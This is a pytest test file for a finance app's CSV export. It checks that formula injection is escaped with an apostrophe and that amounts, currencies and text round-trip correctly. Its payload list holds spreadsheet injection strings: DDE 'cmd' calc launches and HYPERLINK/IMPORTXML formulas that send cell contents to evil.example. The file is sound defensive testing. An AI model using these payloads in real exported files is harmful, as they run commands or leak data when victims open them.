"""Exports: spreadsheets run nothing, and no amount or accent is lost."""

import csv
import io
from collections.abc import Sequence
from time import process_time
from typing import Final

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from finance_core import ledger
from finance_core.services.exports import COLUMNS, harmless, transactions_csv

DANGEROUS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "\ttext", "\rtext", "\ntext", "\0text",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "﹢1", "﹣1", "﹫SUM(A1)", "−1+1",
    " =1+1", "   =1+1", "\N{NO-BREAK SPACE}=1+1", "\N{EM SPACE}+1", "\N{IDEOGRAPHIC SPACE}@A1", "\N{ZERO WIDTH SPACE}=1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1", "\N{RIGHT-TO-LEFT OVERRIDE}=1", "\N{WORD JOINER}-1", "\x0b=1", "\x0c=1", "\x1f=1",
    "\x7f=1", "\N{NEXT LINE}=1", "\N{LINE SEPARATOR}=1", " \t =1", '"=1', '" =1', "\0\0=1", "  \0 +1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "=WEBSERVICE(A1)", "=1\n2",
    "=\N{LEFT-TO-RIGHT MARK}1", "--1", "=",
)  # fmt: skip
"""What a spreadsheet runs when a cell begins with it, or when it skips what it does not show."""
INSIDE: Final = ("SHOP;=1+1", "SHOP\t=1+1", "SHOP\n=1+1", "SHOP\r\n=1+1", 'SHOP;"=1+1"', "SHOP; @A1", "a;b;＝1", "x\n\n-1")
"""What becomes a cell of its own where the list separator is a semicolon."""
PLAIN: Final = ("Elm Pharmacy", "1-2-3", "A=B", "mail@example.org", "'quoted", "", "1 + 1", "a; b", "漢字", "a, -b", "(=1)")


def _frame(*texts: str, amounts: Sequence[float] = (), currency: str = "EUR") -> pd.DataFrame:
    count = len(texts) or len(amounts)
    frame = pd.DataFrame(
        {
            "id": range(1, count + 1),
            "date": pd.to_datetime(["2026-11-21"] * count),
            "account": "Checking",
            "description": list(texts) or "text",
            "amount": list(amounts) or [-12.5] * count,
            "currency": currency,
        }
    )
    return ledger.completed(frame)


def _read(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", [*DANGEROUS, *INSIDE])
def test_no_cell_begins_a_formula(payload: str) -> None:
    for separator in (",", ";"):
        content = transactions_csv(_frame(payload)).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator) for cell in row]
        seen = [cell.lstrip("".join(map(chr, range(33))) + '"\N{NO-BREAK SPACE}\N{IDEOGRAPHIC SPACE}') for cell in cells]
        assert not [cell for cell in seen if cell[:1] in set("=+@＝＋＠") or (cell[:1] in set("-－−") and cell != "-12.50")]
    assert not content.startswith("=")


@pytest.mark.parametrize("payload", DANGEROUS)
def test_a_dangerous_text_gets_an_apostrophe_in_front(payload: str) -> None:
    assert harmless(payload).lstrip("\t\r\n ").startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_every_column_of_text_is_made_harmless() -> None:
    frame = _frame("=1").assign(account="=2", payee="=3", category="=4", member="=5", note="=6", tags="=7,=8", currency="EUR")
    (row,) = _read(transactions_csv(frame))
    assert [row[name] for name in ("description", "account", "payee", "category", "member", "note")] == [
        f"'={number}" for number in range(1, 7)
    ]
    assert row["tags"] == "'=7, =8"


def test_amounts_stay_numbers_and_keep_their_sign() -> None:
    amounts = (-71.4, 3120.0, -0.01, 0.0, -0.0, 1e9 + 0.29, -1234567.89, 0.1 + 0.2)
    rows = _read(transactions_csv(_frame(amounts=amounts)))
    assert [row["amount"] for row in rows] == [
        "-71.40", "3120.00", "-0.01", "0.00", "0.00", "1000000000.29", "-1234567.89", "0.30",
    ]  # fmt: skip


@given(st.lists(st.integers(-(10**12), 10**12), min_size=1, max_size=20))
def test_amounts_come_back_exactly(minors: list[int]) -> None:
    rows = _read(transactions_csv(_frame(amounts=[minor / 100 for minor in minors])))
    assert [round(float(row["amount"]) * 100) for row in rows] == minors


def test_an_amount_has_the_digits_of_its_currency() -> None:
    assert _read(transactions_csv(_frame(amounts=[-1204.0], currency="JPY")))[0]["amount"] == "-1204"
    assert _read(transactions_csv(_frame(amounts=[1.5], currency="KWD")))[0]["amount"] == "1.500"


def test_columns_dates_and_mark() -> None:
    content = transactions_csv(_frame("Bäckerei Kornblum"))
    assert content.startswith(b"\xef\xbb\xbf" + ",".join(COLUMNS).encode())
    (row,) = _read(content)
    assert (row["date"], row["description"], row["category"]) == ("2026-11-21", "Bäckerei Kornblum", "")


def test_nothing_gives_the_header_alone() -> None:
    assert transactions_csv(ledger.empty()).decode("utf-8-sig") == ",".join(COLUMNS) + "\r\n"


def test_parts_of_a_split_stand_where_their_payment_stood() -> None:
    frame = _frame("first", "second", "third", amounts=(-1.0, -10.0, -2.0))
    frame["is_split"] = [False, True, False]
    splits = pd.DataFrame({"id": [2, 2], "category": ["Health", None], "group": ["needs", None], "amount": [-4.0, -6.0]})
    rows = _read(transactions_csv(frame, splits))
    assert [(row["description"], row["amount"], row["category"]) for row in rows] == [
        ("first", "-1.00", ""), ("second", "-4.00", "Health"), ("second", "-6.00", ""), ("third", "-2.00", ""),
    ]  # fmt: skip


@given(st.text(max_size=40))
def test_any_text_is_one_cell(text: str) -> None:
    clean = text.encode("utf-8", "replace").decode()
    (row,) = _read(transactions_csv(_frame(clean)))
    assert set(row) == set(COLUMNS)
    assert row["amount"] == "-12.50"
    assert row["description"].replace("'", "") == clean.replace("\0", "").replace("'", "")


def test_a_long_ledger_takes_seconds_at_most() -> None:
    started = process_time()
    content = transactions_csv(_frame(*(f"SHOP {number}" for number in range(20_000))))
    assert content.count(b"\r\n") == 20_001
    assert process_time() - started < 5
